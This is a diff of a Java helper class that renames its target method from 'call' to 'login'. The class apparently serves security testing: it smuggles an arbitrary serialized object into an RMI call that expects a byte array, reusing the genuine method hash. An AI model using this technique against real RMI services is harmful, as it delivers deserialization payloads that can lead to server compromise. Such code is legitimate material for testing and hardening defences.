@@ -10,7 +10,7 @@ import java.rmi.server.RemoteObject;
 import java.security.MessageDigest;
 
 /**
- * Sends an arbitrary serialized object where {@code RemotePool.call} takes its
+ * Sends an arbitrary serialized object where {@code RemotePool.login} takes its
  * {@code byte[]} frame, as a hostile client crafting its own RMI stream would: the call
  * goes out under the real method's hash, with the object written where the frame belongs.
  */
@@ -18,21 +18,21 @@ public final class RmiSmuggler {
 
     /** A method of the same name whose parameter is any object: its argument is written with writeObject. */
     public interface Smuggling extends Remote {
-        byte[] call(Object frame) throws RemoteException;
+        byte[] login(Object frame) throws RemoteException;
     }
 
     private RmiSmuggler() {
     }
 
     /**
-     * @param stub    a stub of a remote object whose {@code byte[] call(byte[])} is the target
+     * @param stub    a stub of a remote object whose {@code byte[] login(byte[])} is the target
      * @param payload what to write where the frame belongs
      * @return the reply, if the server accepted the call at all
      */
-    public static Object call(Remote stub, Object payload) throws Exception {
-        Method smuggling = Smuggling.class.getMethod("call", Object.class);
+    public static Object login(Remote stub, Object payload) throws Exception {
+        Method smuggling = Smuggling.class.getMethod("login", Object.class);
         RemoteObject handler = (RemoteObject) Proxy.getInvocationHandler(stub);
-        return handler.getRef().invoke(stub, smuggling, new Object[] {payload}, methodHash("call([B)[B"));
+        return handler.getRef().invoke(stub, smuggling, new Object[] {payload}, methodHash("login([B)[B"));
     }
 
     /** The hash RMI dispatches on (the JDK's sun.rmi.server.Util.computeMethodHash). */
